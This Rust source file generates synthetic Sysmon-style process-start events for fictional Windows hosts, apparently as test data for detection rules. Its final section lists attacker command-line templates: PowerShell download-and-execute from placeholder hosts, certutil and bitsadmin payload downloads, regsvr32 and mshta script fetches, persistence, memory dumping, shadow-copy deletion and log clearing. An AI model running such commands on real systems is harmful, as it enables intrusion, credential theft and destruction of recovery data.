//! What starts programs on the made-up machines, and how often.
//!
//! Fresh text, shaped like what Sysmon records: services and consoles with the same line each time,
//! browsers and updaters with numbers in it, scripts of administrators, and a few lines in a
//! hundred that rules are written about.

/// One way in which a program is started.
pub struct Activity {
    /// How many of ten thousand events.
    pub weight: u32,
    pub image: &'static str,
    pub original: &'static str,
    pub parent: &'static str,
    /// The command line. `{hex}`, `{n}`, `{guid}`, `{user}`, `{host}` and `{word}` are filled in;
    /// see [`super::events`].
    pub line: &'static str,
}

const fn activity(
    weight: u32,
    image: &'static str,
    original: &'static str,
    parent: &'static str,
    line: &'static str,
) -> Activity {
    Activity {
        weight,
        image,
        original,
        parent,
        line,
    }
}

const SERVICES: &str = r"C:\Windows\System32\services.exe";
const SVCHOST: &str = r"C:\Windows\System32\svchost.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const BROWSER: &str = r"C:\Program Files\Lantern\Application\lantern.exe";
const EDITOR: &str = r"C:\Users\{user}\AppData\Local\Programs\Quill\quill.exe";
const AGENT: &str = r"C:\Program Files\Harbor Agent\harbor-agent.exe";
const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const NET: &str = r"C:\Windows\System32\net.exe";

#[rustfmt::skip]
pub const ACTIVITIES: &[Activity] = &[
    // The same line each time, or one of few.
    activity(1800, r"C:\Windows\System32\conhost.exe", "CONHOST.EXE", CMD, r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    activity(620, SVCHOST, "svchost.exe", SERVICES, r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule"),
    activity(380, SVCHOST, "svchost.exe", SERVICES, r"C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s {word}Svc"),
    activity(300, SVCHOST, "svchost.exe", SERVICES, r"C:\Windows\system32\svchost.exe -k wsappx -p -s ClipSVC"),
    activity(240, r"C:\Windows\System32\backgroundTaskHost.exe", "backgroundTaskHost.exe", SVCHOST, r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{word}.mca"#),
    activity(260, r"C:\Windows\System32\RuntimeBroker.exe", "RuntimeBroker.exe", SVCHOST, r"C:\Windows\System32\RuntimeBroker.exe -Embedding"),
    activity(220, r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", SVCHOST, "taskhostw.exe {word}"),
    activity(180, r"C:\Windows\System32\wbem\WmiPrvSE.exe", "Wmiprvse.exe", SVCHOST, r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
    activity(160, r"C:\Windows\System32\smartscreen.exe", "smartscreen.exe", SVCHOST, r"C:\Windows\System32\smartscreen.exe -Embedding"),
    activity(190, r"C:\Windows\System32\SearchProtocolHost.exe", "SearchProtocolHost.exe", r"C:\Windows\System32\SearchIndexer.exe", r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search""#),
    activity(170, r"C:\Windows\System32\dllhost.exe", "dllhost.exe", SVCHOST, r"C:\Windows\system32\DllHost.exe /Processid:{guid}"),
    activity(60, r"C:\Windows\System32\sppsvc.exe", "sppsvc.exe", SERVICES, r"C:\Windows\system32\sppsvc.exe"),
    activity(50, r"C:\Windows\System32\LogonUI.exe", "logonui.exe", r"C:\Windows\System32\winlogon.exe", r#""LogonUI.exe" /flags:0x2 /state0:0xa{n} /state1:0x41c64e6d"#),
    // A browser and other programs of many processes.
    activity(700, BROWSER, "lantern.exe", BROWSER, r#""C:\Program Files\Lantern\Application\lantern.exe" --type=renderer --lang=en-US --renderer-client-id={n} --time-ticks-at-unix-epoch=-17{n} --launch-time-ticks={n}{n} --field-trial-handle={n},i,{n}"#),
    activity(640, BROWSER, "lantern.exe", BROWSER, r#""C:\Program Files\Lantern\Application\lantern.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none"#),
    activity(120, BROWSER, "lantern.exe", EXPLORER, r#""C:\Program Files\Lantern\Application\lantern.exe" https://{word}.example.org/{word}/{word}?id={n}"#),
    activity(230, EDITOR, "quill.exe", EDITOR, r#""C:\Users\{user}\AppData\Local\Programs\Quill\quill.exe" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAY{hex} --mojo-platform-channel-handle={n}"#),
    activity(160, r"C:\Users\{user}\AppData\Local\Programs\Quill\bin\rg.exe", "?", EDITOR, r#""c:\Users\{user}\AppData\Local\Programs\Quill\bin\rg.exe" --files --hidden --case-sensitive -g **/{word}/** --no-ignore-parent"#),
    activity(160, r"C:\Program Files\Git\cmd\git.exe", "git.exe", EDITOR, "git.exe {word} --porcelain -- src/{word}/{word}.ts"),
    activity(320, r"C:\Program Files\Git\mingw64\bin\git.exe", "git.exe", r"C:\Program Files\Git\cmd\git.exe", "git.exe status -z -uall"),
    activity(150, r"C:\Program Files\nodejs\node.exe", "node.exe", CMD, r#"node  "C:\work\{word}\node_modules\.bin\\..\{word}\bin\{word}.js" --watch --port {n}"#),
    activity(110, r"C:\Program Files\dotnet\dotnet.exe", ".NET Host", CMD, r#""C:\Program Files\dotnet\dotnet.exe" exec "C:\work\{word}\bin\Debug\net8.0\{word}.dll" --pipe {guid}"#),
    // Agents and updaters.
    activity(260, r"C:\Program Files\Harbor Agent\harbor-scan.exe", "harbor-scan.exe", AGENT, r#""C:\Program Files\Harbor Agent\harbor-scan.exe" --job {guid} --target C:\Users\{user}\{word} --throttle 20"#),
    activity(180, r"C:\Program Files (x86)\Lantern\Update\LanternUpdate.exe", "LanternUpdate.exe", SVCHOST, r#""C:\Program Files (x86)\Lantern\Update\LanternUpdate.exe" /ua /installsource scheduler"#),
    activity(140, r"C:\Windows\System32\msiexec.exe", "msiexec.exe", SERVICES, r"C:\Windows\system32\MsiExec.exe -Embedding {hex}{hex}{hex}{hex}"),
    activity(90, r"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta.exe", "AM_Delta.exe", r"C:\Windows\System32\wuauclt.exe", r"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta.exe /stub 1.1.18500.{n} /payload 1.415.{n}.0 /program C:\Windows\System32\wuauclt.exe"),
    activity(130, r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe", AGENT, r"wevtutil.exe qe Application /c:{n} /rd:true /f:text"),
    // People and the scripts of administrators.
    activity(240, CMD, "Cmd.Exe", EXPLORER, r#"C:\Windows\system32\cmd.exe /c ""C:\tools\{word}\{word}.bat" {n}""#),
    activity(210, CMD, "Cmd.Exe", AGENT, r"cmd.exe /d /s /c dir C:\ProgramData\{word}\{word}"),
    activity(190, POWERSHELL, "PowerShell.EXE", AGENT, r#"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\Program Files\Harbor Agent\scripts\{word}.ps1" -Run {guid}"#),
    activity(120, POWERSHELL, "PowerShell.EXE", SVCHOST, r#"powershell.exe -Command "Get-Service {word} | Select-Object -Property Status,Name | ConvertTo-Json -Compress""#),
    activity(110, r"C:\Windows\System32\notepad.exe", "NOTEPAD.EXE", EXPLORER, r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\{user}\Documents\{word}-{n}.txt"#),
    activity(120, WORD, "WinWord.exe", EXPLORER, r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\{word} {word}.docx" /o """#),
    activity(90, r"C:\Windows\System32\cscript.exe", "cscript.exe", SVCHOST, r"cscript.exe //nologo \\{host}\netlogon\{word}.vbs {user}"),
    activity(80, r"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", EXPLORER, r"C:\Windows\System32\rundll32.exe shell32.dll,SHCreateLocalServerRunDll {guid} -Embedding"),
    activity(70, r"C:\Windows\System32\PING.EXE", "ping.exe", CMD, "ping  -n 1 {host}.example.org"),
    activity(60, r"C:\Windows\System32\ipconfig.exe", "ipconfig.exe", CMD, "ipconfig  /all"),
    activity(60, r"C:\Windows\System32\tasklist.exe", "tasklist.exe", CMD, r#"tasklist  /fi "PID eq {n}" /fo csv /nh"#),
    activity(55, r"C:\Windows\System32\reg.exe", "reg.exe", CMD, r#"reg  query "HKLM\SOFTWARE\{word}\{word}" /v Version"#),
    activity(50, r"C:\Windows\System32\schtasks.exe", "schtasks.exe", AGENT, r#"schtasks.exe /query /tn "\{word}\{word}" /fo LIST"#),
    activity(45, r"C:\Windows\System32\net1.exe", "net1.exe", NET, r"C:\Windows\system32\net1 use Z: \\{host}\{word}"),
    activity(40, r"C:\Windows\System32\robocopy.exe", "robocopy.exe", CMD, r"robocopy  C:\work\{word} \\{host}\backup\{word} /mir /r:1 /w:1 /log:C:\temp\{hex}.log"),
    // What rules are written about.
    activity(30, POWERSHELL, "PowerShell.EXE", CMD, "powershell -nop -w hidden -enc JABhAD0AJwB{hex}{hex}{hex}{hex}{hex}{hex}AA=="),
    activity(20, POWERSHELL, "PowerShell.EXE", WORD, r#"powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://{host}.example.net/{word}.ps1')""#),
    activity(20, r"C:\Windows\System32\whoami.exe", "whoami.exe", CMD, "whoami  /all"),
    activity(18, NET, "net.exe", CMD, r#"net  group "domain admins" /domain"#),
    activity(18, r"C:\Windows\System32\certutil.exe", "CertUtil.exe", CMD, r"certutil  -urlcache -split -f http://{host}.example.net/{hex}.dat C:\Users\Public\{hex}.exe"),
    activity(16, r"C:\Windows\System32\reg.exe", "reg.exe", CMD, r"reg  add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {word} /t REG_SZ /d C:\Users\Public\{word}.exe /f"),
    activity(16, r"C:\Windows\System32\schtasks.exe", "schtasks.exe", CMD, r"schtasks  /create /sc minute /mo 10 /tn {word} /tr C:\Users\{user}\AppData\Local\Temp\{hex}.exe"),
    activity(14, r"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", CMD, r"rundll32  C:\Users\{user}\AppData\Roaming\{hex}.dat,#1"),
    activity(12, r"C:\Windows\System32\regsvr32.exe", "REGSVR32.EXE", CMD, "regsvr32  /s /u /i:http://{host}.example.net/{word}.sct scrobj.dll"),
    activity(12, r"C:\Windows\System32\mshta.exe", "MSHTA.EXE", EXPLORER, r"mshta.exe http://{host}.example.net/{word}.hta"),
    activity(10, r"C:\Windows\System32\cscript.exe", "cscript.exe", CMD, r"cscript  //b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:http://{host}.example.net/{hex}.sct"),
    activity(10, r"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", CMD, "vssadmin  delete shadows /all /quiet"),
    activity(10, r"C:\Windows\System32\bitsadmin.exe", "bitsadmin.exe", CMD, r"bitsadmin  /transfer {word} /download /priority high http://{host}.example.net/{word}.exe C:\Users\Public\{word}.exe"),
    activity(8, r"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe", CMD, r#"wmic  /node:{host} process call create "cmd.exe /c C:\Windows\Temp\{hex}.bat""#),
    activity(8, r"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", POWERSHELL, r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {n} C:\Windows\Temp\{hex}.dmp full"),
    activity(6, r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe", CMD, "wevtutil  cl Security"),
    activity(6, r"C:\Windows\System32\nltest.exe", "nltestrk.exe", CMD, "nltest  /domain_trusts /all_trusts"),
];
